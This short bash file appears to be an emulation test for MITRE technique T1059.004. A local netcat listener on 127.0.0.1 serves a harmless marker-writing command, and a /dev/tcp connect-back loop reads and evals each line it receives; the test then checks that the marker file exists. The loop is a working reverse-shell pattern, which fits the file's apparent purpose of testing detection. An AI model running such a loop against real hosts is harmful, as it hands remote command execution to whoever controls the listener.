# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.004
about="the login's shell connects out and obeys"
before() {
	echo 'echo > /var/tmp/fidelity/marker/was-here' | nc -N -l 127.0.0.1 7779 2>/dev/null &
	listening 7779
}
attack() { remote 'exec 5<>/dev/tcp/127.0.0.1/7779; while read -r line <&5; do eval "$line"; done'; }
effect() { [ -e "$marker" ]; }
